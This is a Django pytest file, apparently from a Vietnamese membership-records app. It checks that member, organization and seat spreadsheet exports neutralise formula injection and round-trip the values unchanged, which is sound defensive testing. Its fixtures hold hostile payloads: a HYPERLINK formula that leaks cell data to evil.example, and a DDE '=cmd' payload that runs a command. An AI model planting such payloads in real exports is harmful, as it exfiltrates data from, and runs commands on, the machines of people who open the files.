"""Data that leaves the system: a value that begins like a formula (=, +, -, @, tab, CR) is
written as text in every export — never a live formula — and imports back unchanged."""

import io

import pytest
from django.test import RequestFactory
from openpyxl import load_workbook

from hatnhan.exchange.exports import (
    export_members,
    export_organizations,
    export_seats,
    organizations_for_export,
    seats_for_export,
)
from hatnhan.members.models import CommitteeSeat, Member, SeatRole
from hatnhan.members.services import create_seat
from hatnhan.organizations.models import OrganizationKind
from hatnhan.organizations.services import create_organization

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _cells(data: bytes) -> list:
    ws = load_workbook(io.BytesIO(data)).active
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_text(data: bytes, *values: str) -> None:
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
    for value in values:
        [cell] = [c for c in cells if c.value == value]
        assert cell.data_type == "s" and cell.quotePrefix, value


@pytest.fixture
def hostile(tree, make_member):
    member = make_member(
        tree["stc_cell"],
        LINK,
        party_card_number="1001",
        post="+84 Trưởng phòng",
        email="",
        phone="+84912345678",
    )
    make_member(tree["stc_cell"], "Lê Văn An", party_card_number="1002", post="-1+2")
    make_member(tree["stc_cell"], "Trần Văn Bình", party_card_number="1003", post="@SUM(A1:A9)")
    return member


def test_members_export_writes_formula_like_text_as_text(tree, hostile):
    members = Member.objects.select_related("organization").order_by("sort_key", "id")
    data = export_members(members).read()
    _assert_text(data, LINK, "+84 Trưởng phòng", "+84912345678", "-1+2", "@SUM(A1:A9)")


def test_an_exported_formula_like_value_imports_back_the_same(tree, hostile, plan_for):
    members = Member.objects.select_related("organization").order_by("sort_key", "id")
    plan = plan_for(export_members(members).read())
    assert not plan.errors, [str(e) for e in plan.errors]
    # Every row is the member as stored: the name and the posts came back unchanged.
    assert plan.counts()["unchanged"] == 3 and not plan.updates and not plan.creates


def as_request(user):
    request = RequestFactory().get("/")
    request.user = user
    return request


def test_organizations_and_seats_exports_too(tree, users, hostile):
    create_organization(
        actor=None,
        code="STC-X",
        name="=cmd|' /C calc'!A0",
        kind=OrganizationKind.CELL,
        parent=tree["stc"],
    )
    _, orgs = organizations_for_export(as_request(users["admin"]))
    _assert_text(export_organizations(orgs).read(), "=cmd|' /C calc'!A0")
    create_seat(actor=None, organization=tree["stc"], member=hostile, role=SeatRole.COMMITTEE)
    assert CommitteeSeat.objects.exists()
    _, seats = seats_for_export(as_request(users["admin"]))
    _assert_text(export_seats(seats).read(), LINK)
